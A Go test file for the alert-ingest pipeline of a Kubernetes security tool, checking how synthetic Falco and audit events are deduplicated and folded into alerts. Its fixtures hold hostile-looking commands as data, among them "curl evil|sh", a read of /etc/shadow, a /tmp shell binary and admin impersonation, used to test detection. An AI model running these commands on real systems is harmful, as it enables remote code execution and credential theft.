package ingest_test

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/tocsin-dev/tocsin/api/v1alpha1"
	"github.com/tocsin-dev/tocsin/internal/activity"
	"github.com/tocsin-dev/tocsin/internal/auditevent"
	"github.com/tocsin-dev/tocsin/internal/ingest"
)

// ran is a Falco event of a command in a pod.
func ran(command string, after time.Duration, fields ...string) string {
	return strings.Replace(shell("web-0", after), `"k8s.ns.name"`, fmt.Sprintf(`"proc.cmdline":%q,%s"k8s.ns.name"`, command, strings.Join(append(fields, ""), ",")), 1)
}

// acted is an audit event of an exec by a ServiceAccount from a pod.
func acted(edits ...string) string {
	return strings.NewReplacer(edits...).Replace(`{"kind":"Event","apiVersion":"audit.k8s.io/v1","auditID":"1","verb":"create",` +
		`"user":{"username":"system:serviceaccount:ops:cron","extra":{"authentication.kubernetes.io/pod-name":["cron-0"]}},` +
		`"userAgent":"kubectl/v1.37.2 (linux)","sourceIPs":["10.244.1.17"],"requestReceivedTimestamp":"` + start.Format(time.RFC3339) + `",` +
		`"requestURI":"/api/v1/namespaces/shop/pods/db-0/exec?stdout=true&command=pg_dump&command=run7",` +
		`"objectRef":{"resource":"pods","subresource":"exec","namespace":"shop","name":"db-0"}}`)
}

// noticed is what a rule finds that matches every event.
func noticed(raw map[string]any) []v1alpha1.AlertSpec {
	e := auditevent.Read(raw)
	return []v1alpha1.AlertSpec{{
		Rule: "acted", Title: "Something was done", Severity: v1alpha1.SeverityHigh, Entities: e.Entities(), Attributes: e.Attributes(), Fingerprint: "deed",
	}}
}

// Whatever explained the first event must not explain one that looks otherwise.
func TestPipelineTellsLooksApart(t *testing.T) {
	padding := strings.Repeat("x", 1100)
	tests := map[string]struct {
		source, first, second string
		want                  int
	}{
		"the same command":             {"falco", ran("sh -c backup", 0), ran("sh -c backup", time.Second), 1},
		"another number and port":      {"falco", ran("sh -c run7", 0, `"fd.name":"10.0.0.1:40312->10.0.0.9:443"`), ran("sh -c run8", 0, `"fd.name":"10.0.0.1:51234->10.0.0.9:443"`), 1},
		"another process number":       {"falco", ran("kill 4711", 0, `"proc.pid":4711`), ran("kill 4712", 0, `"proc.pid":4712`), 1},
		"another command":              {"falco", ran("sh -c backup", 0), ran("sh -c 'curl evil|sh'", time.Second), 2},
		"another file that runs":       {"falco", ran("sh", 0, `"proc.exepath":"/bin/sh"`), ran("sh", 0, `"proc.exepath":"/tmp/sh"`), 2},
		"another parent":               {"falco", ran("sh", 0, `"proc.pname":"cron"`), ran("sh", 0, `"proc.pname":"nginx"`), 2},
		"another file that is read":    {"falco", ran("cat", 0, `"fd.name":"/etc/hosts"`), ran("cat", 0, `"fd.name":"/etc/shadow"`), 2},
		"another title":                {"falco", ran("sh", 0), strings.Replace(ran("sh", 0), "A shell", "A shell with a terminal", 1), 2},
		"an exec by Falco's plugin":    {"falco", ran("", 0, `"ka.uri.param[command]":"ls"`), ran("", 0, `"ka.uri.param[command]":"sh"`), 2},
		"the same deed":                {"audit", acted(), acted(`"auditID":"1"`, `"auditID":"2"`), 1},
		"the same with other numbers":  {"audit", acted(), acted("run7", "run8", "v1.37.2", "v1.38.0", "10.244.1.17", "10.244.2.3"), 1},
		"another command of an exec":   {"audit", acted(), acted("command=pg_dump&command=run7", "command=sh"), 2},
		"another command of an attach": {"audit", acted("exec", "attach"), acted("exec", "attach", "pg_dump", "sh"), 2},
		"a command after padding":      {"audit", acted("stdout=true", "x="+padding), acted("stdout=true", "x="+padding, "pg_dump", "sh"), 2},
		"a query that cannot be read":  {"audit", acted("stdout=true", "%zz"), acted("stdout=true", "%zz", "pg_dump", "sh"), 2},
		"another path through a proxy": {"audit", acted("/exec?", "/proxy/metrics?", `"exec"`, `"proxy"`), acted("/exec?", "/proxy/admin?", `"exec"`, `"proxy"`), 2},
		"another network":              {"audit", acted(), acted("10.244.1.17", "203.0.113.7"), 2},
		"no network":                   {"audit", acted(), acted("10.244.1.17", "unknown"), 2},
		"another client":               {"audit", acted(), acted("kubectl/v1.37.2", "curl/8"), 2},
		"a token of no pod":            {"audit", acted(), acted(`"authentication.kubernetes.io/pod-name":["cron-0"]`, ""), 2},
		"as somebody else":             {"audit", acted(), acted(`"userAgent"`, `"impersonatedUser":{"username":"admin"},"userAgent"`), 2},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			together := "[" + tc.first + "," + tc.second + "]"
			if tc.source == "audit" {
				together = `{"kind":"EventList","apiVersion":"audit.k8s.io/v1","items":` + together + `}`
			}
			for how, bodies := range map[string][]string{"in one POST": {together}, "in two": {tc.first, tc.second}} {
				w := newWorld(t, source("falco", v1alpha1.FormatFalco), source("audit", v1alpha1.FormatKubernetesAudit))
				s := w.open(t)
				var last uint64
				for _, body := range bodies {
					last = publish(t, s, tc.source, body)
				}
				w.lead(t, s, &witness{detect: noticed, closed: true}, processed(t, s, last))
				var events int64
				for _, n := range w.alerts.counts() {
					events += n
				}
				if got := len(w.alerts.all()); got != tc.want || events != 2 {
					t.Errorf("%s they are %d alerts of %d events, want %d of 2", how, got, events, tc.want)
				}
				s.Close()
			}
		})
	}
}

var commands = []string{"ls", "id", "ps", "df", "env", "who", "top", "cat", "curl", "nc", "dig"}

// Whoever varies what it does makes few alerts, and one of them says so.
func TestPipelineFoldsLooks(t *testing.T) {
	w := newWorld(t, source("falco", v1alpha1.FormatFalco))
	s := w.open(t)
	for i, command := range commands {
		publish(t, s, "falco", ran(command, time.Duration(i)*time.Second))
	}
	last := publish(t, s, "falco", "["+ran("ls", time.Minute)+","+ran("nc", time.Minute)+","+shell("web-1", 0)+"]")
	w.lead(t, s, &witness{}, processed(t, s, last))
	// A new leader goes on with what the last one knew, a look that was folded with it.
	last = publish(t, s, "falco", "["+ran("dig", 2*time.Minute)+","+ran("ls", 2*time.Minute)+","+ran("ssh", 2*time.Minute)+"]")
	w.lead(t, s, &witness{}, processed(t, s, last))
	var got []string
	for _, a := range w.alerts.all() {
		got = append(got, strings.TrimSpace(fmt.Sprint(a.Spec.Attributes["k8s.pod.name"], " ", a.Spec.Attributes["proc.cmdline"], " ",
			ingest.CountOf(a).Events, " ", a.Spec.Attributes[ingest.AttributeLooks])))
	}
	slices.Sort(got)
	want := []string{
		"web-0 cat 1", "web-0 curl 6 various", "web-0 df 1", "web-0 env 1", "web-0 id 1", "web-0 ls 3", "web-0 ps 1", "web-0 top 1", "web-0 who 1", "web-1  1",
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("alerts (-want +got):\n%s", diff)
	}
}

// A look that was not seen for a window makes room for another.
func TestPipelineForgetsLooks(t *testing.T) {
	falco := source("falco", v1alpha1.FormatFalco)
	falco.Spec.DeduplicationWindow = &metav1.Duration{Duration: time.Nanosecond}
	w := newWorld(t, falco)
	s := w.open(t)
	var last uint64
	for _, command := range commands {
		last = publish(t, s, "falco", ran(command, 0))
	}
	w.lead(t, s, &witness{}, processed(t, s, last))
	for _, a := range w.alerts.all() {
		if a.Spec.Attributes[ingest.AttributeLooks] != "" {
			t.Errorf("%s is various", a.Spec.Attributes["proc.cmdline"])
		}
	}
}

// An alert with as many attributes as there may be has room for what marks it.
func TestPipelineMarksWhatIsFull(t *testing.T) {
	w := newWorld(t, source("falco", v1alpha1.FormatFalco))
	s := w.open(t)
	var fields []string
	for i := range 60 {
		fields = append(fields, fmt.Sprintf(`"z%d":"x"`, i))
	}
	var last uint64
	for i, command := range commands[:9] {
		last = publish(t, s, "falco", ran(command, time.Duration(i)*time.Second, fields...))
	}
	w.lead(t, s, &witness{}, processed(t, s, last))
	got := w.alerts.all()[8].Spec.Attributes
	if len(got) != 48 || got[ingest.AttributeLooks] != ingest.LooksVarious || got["proc.cmdline"] != "curl" {
		t.Errorf("%d attributes: %v", len(got), got)
	}
}

// A token is good for what happens now, and not for weeks of habits in one POST.
func TestPipelineForgesNoHabit(t *testing.T) {
	tests := map[string]struct {
		ago  time.Duration
		want int
	}{
		"an hour":       {time.Hour, 1},
		"almost a day":  {23 * time.Hour, 1},
		"more than one": {25 * time.Hour, 0},
		"weeks":         {21 * 24 * time.Hour, 0},
	}
	for name, tc := range tests {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, source("falco", v1alpha1.FormatFalco))
			s := w.open(t)
			saw := &witness{memory: activity.New(activity.DefaultLimits)}
			w.lead(t, s, saw, processed(t, s, publish(t, s, "falco", shell("web-0", time.Since(start)-tc.ago))))
			got, _ := saw.memory.Recurrence("shop", activity.Firing{
				Source: "falco", Rule: "Terminal shell in container", Of: activity.Subject{Pod: "shop/web-0"},
			}, start.Add(48*time.Hour))
			if got.Count != tc.want || len(w.alerts.all()) != 1 {
				t.Errorf("remembered %d times, want %d; %d alerts", got.Count, tc.want, len(w.alerts.all()))
			}
		})
	}
}
